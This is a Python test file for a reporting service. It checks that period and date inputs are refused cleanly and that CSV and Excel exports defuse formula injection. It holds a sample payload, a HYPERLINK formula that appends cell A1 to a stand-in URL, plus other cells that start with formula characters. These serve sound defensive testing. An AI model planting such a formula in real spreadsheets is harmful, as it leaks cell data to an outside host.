"""Report parameters and exports against hostile input: periods, dates, and cells that would run as formulas."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook

from services.reporting.exports import to_csv, to_xlsx
from services.reporting.periods import parse_period, report_day
from shared.kernel.rules import RuleViolation

FORMULA = '=HYPERLINK("http://x/?"&A1,"Sơn Động")'


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("0000", "period_out_of_range"),
        ("1999", "period_out_of_range"),
        ("2101-H1", "period_out_of_range"),
        ("\r\n2025", "bad_period"),
        ("2025\n", "bad_period"),
        ("２０２４", "bad_period"),
        ("2024-H3", "bad_period"),
    ],
)
def test_a_period_outside_the_shape_or_the_years_is_a_refusal_not_a_crash(text: str, code: str) -> None:
    with pytest.raises(RuleViolation) as refused:
        parse_period(text)
    assert refused.value.code == code and refused.value.kind == "invalid" and refused.value.field == "period"
    assert "\r" not in refused.value.message and "\n" not in refused.value.message


def test_the_label_is_rebuilt_from_what_was_parsed() -> None:
    assert [parse_period(t).label for t in (" 2024", "2024-H1 ", "2100-H2")] == ["2024", "2024-H1", "2100-H2"]


@pytest.mark.parametrize("day", [date(9999, 12, 31), date(1, 1, 1), date(1999, 12, 31), date(2101, 1, 1)])
def test_report_dates_stay_where_date_arithmetic_cannot_overflow(day: date) -> None:
    with pytest.raises(RuleViolation, match="as_of must be between 2000-01-01 and 2100-12-31"):
        report_day(day)
    with pytest.raises(RuleViolation):
        parse_period(None, day)
    assert report_day(date(2100, 12, 31)) == date(2100, 12, 31)


def report(unit_name: str) -> dict[str, Any]:
    """A periodic report whose texts are all hostile (as if a unit name or a value had been typed)."""
    unit = {
        "unit_code": "+1",
        "unit_name": unit_name,
        "quota": {"compulsory": 3},
        "achieved": {"compulsory": -1},
        "ratio": {"compulsory": None},
    }
    return {
        "unit_code": "=1+2",
        "unit_name": unit_name,
        "period": "2024",
        "start": "2024-01-01",
        "end": "2024-12-31",
        "indicators": [{"indicator": "@SUM(A1)", "value": 1, "target": None, "status": None}],
        "quota_progress": {"modalities": ["compulsory"], "units": [unit], "total": unit},
        "breakdowns": {"on_record_by_age_band": [{"age_band": "-2+3", "count": 2}]},
        "coverage": {"uncovered": []},
        "outstanding": {"absconders_at_large": [], "awaiting_post_rehab_decision": []},
    }


def test_no_csv_cell_begins_with_what_a_spreadsheet_runs() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(report(FORMULA)))))
    cells = [cell for row in rows for cell in row]
    running = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert not running, running
    assert "'" + FORMULA in cells and "'=1+2" not in cells  # the title cell starts with the name
    assert f"{FORMULA} (=1+2)" in [c.lstrip("'") for c in cells]
    assert "'@SUM(A1)" in cells and "'+1" in cells and "-1" in cells  # a number stays a number


def test_no_xlsx_cell_is_a_formula() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(report(FORMULA))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells]  # shown as the text it is


def _number(cell: str) -> bool:
    """A plain number (a count the report computed) is data, not a formula, whatever its sign."""
    try:
        float(cell)
    except ValueError:
        return False
    return True
